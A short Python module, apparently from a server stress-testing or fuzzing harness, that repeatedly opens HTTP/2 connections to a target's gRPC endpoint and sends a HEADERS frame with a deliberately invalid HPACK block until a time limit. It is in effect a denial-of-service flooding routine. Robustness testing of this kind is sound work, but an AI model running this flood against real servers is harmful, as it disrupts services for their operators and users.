"""Header blocks that HPACK does not allow, each on a new connection."""

from wire import END_HEADERS, END_STREAM, GET, HEADERS, PREFACE, flood_connection, frame, settings


def flood(target, until):
    bad = frame(HEADERS, END_HEADERS | END_STREAM, 1, GET + b"\x80")
    return flood_connection(target.grpc, until, PREFACE + settings() + bad, lambda: [b""] * 1_000)
